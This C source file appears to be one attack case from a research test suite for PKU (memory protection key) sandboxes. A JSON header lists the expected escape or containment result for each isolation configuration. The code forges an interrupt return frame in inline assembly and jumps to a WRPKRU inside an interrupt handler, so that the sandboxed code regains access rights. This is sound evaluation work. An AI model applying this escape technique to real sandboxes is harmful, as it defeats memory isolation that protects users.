/*
{
  "title": "A jump to the WRPKRU by which a handler gives back rights, with a frame of the extension's own: IRETQ leads to its code",
  "precondition": "CR4.PKE = 1",
  "reference": "Connor et al., PKU Pitfalls: Attacks on PKU-based Memory Isolation Systems, USENIX Security 2020, section 4 (signals); Voulimeneas et al., You Shall Not (by)Pass! Practical, Secure, and Fast PKU-based Sandboxing, EuroSys 2022",
  "symbols": ["interrupt_common"],
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I1", "event": "pkruWrite"},
    "mpk-hardened": {"outcome": "contained", "event": "exception"},
    "ring3": {"outcome": "contained", "event": "exception"},
    "pks-hardened": {"outcome": "contained", "event": "exception"},
    "mpk-bundled": {"outcome": "contained"}
  },
  "control": {"mpk-bundled": "contained"}
}
*/
#include "attack.h"
#include "find.h"

void interrupt_common(void);

static void goal(void) { GOAL_COUNT(); }

// Behind the WRPKRU the handler pops 15 registers, passes over the vector and the error code, and returns.
static void jump(uint64_t place) {
  static uint64_t frame[22];
  uint64_t rights = 0, c = 0, d = 0, *top = frame;
  __asm__ volatile("pushfq\n popq %0" : "=r"(frame[19]));
  __asm__ volatile(
      "movq %%rbp, 80(%4)\n"
      "movq %%rbx, 88(%4)\n"
      "leaq 1f(%%rip), %%r8\n"
      "movq %%r8, 136(%4)\n"
      "movw %%cs, 144(%4)\n"
      "movq %%rsp, 160(%4)\n"
      "movw %%ss, 168(%4)\n"
      "movq %4, %%rsp\n"
      "jmp *%3\n"
      "1:"
      : "+a"(rights), "+c"(c), "+d"(d), "+S"(place), "+D"(top)
      :
      : "r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15", "memory");
}

int main(void) {
  BYPASS_OF_KEYS(const uint64_t first = find((const void *)interrupt_common, "\x0f\x01\xef", 3);
                 jump(find((const void *)(first + 3), "\x0f\x01\xef", 3)));
  goal();
  return 0;
}
